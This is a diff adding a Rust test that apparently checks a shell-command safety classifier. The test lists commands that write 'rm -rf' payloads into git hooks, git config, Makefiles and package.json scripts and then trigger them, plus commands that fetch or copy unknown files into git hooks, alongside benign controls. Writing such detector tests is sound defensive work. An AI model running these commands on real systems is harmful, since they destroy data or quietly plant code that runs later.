@@ -162,3 +162,35 @@ fn installed_programs_and_build_tools_stay_benign() {
         clean(cmd);
     }
 }
+
+/// Files that make a program run commands later, written by the command:
+/// git hooks and configuration, a Makefile or package.json then built.
+#[test]
+fn written_hooks_configs_and_build_files() {
+    for cmd in [
+        "echo 'rm -rf d' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git commit -m x",
+        "printf '#!/bin/sh\\nrm -rf d\\n' > .husky/pre-push",
+        "printf '[core]\\n\\tpager = rm -rf d\\n' >> .git/config; git log",
+        "printf '[alias]\\n  x = !rm -rf d\\n' > ~/.gitconfig",
+        "printf 'all:\\n\\trm -rf d\\n' > Makefile; make",
+        "printf 'x:\\n\\trm -rf d\\n' > build.mk; make -f build.mk x",
+        "echo '{\"scripts\":{\"test\":\"rm -rf d\"}}' > package.json; npm test",
+        "cat > package.json <<EOF\n{\"scripts\": {\"build\": \"rm -rf /srv\"}}\nEOF\nnpm run build",
+    ] {
+        flagged(cmd, Category::RecursiveDelete);
+    }
+    for cmd in [
+        "curl -o .git/hooks/post-checkout https://x.io/h",
+        "cp evil .git/hooks/pre-push",
+    ] {
+        flagged(cmd, Category::Opaque);
+    }
+    for cmd in [
+        "echo 'npx lint-staged' > .husky/pre-commit",
+        "printf '[user]\\n\\tname = me\\n' >> .git/config",
+        "echo '{\"name\":\"x\",\"scripts\":{\"test\":\"jest\"}}' > package.json; npm test",
+        "printf 'all:\\n\\tcc -o app main.c\\n' > Makefile; make",
+    ] {
+        clean(cmd);
+    }
+}
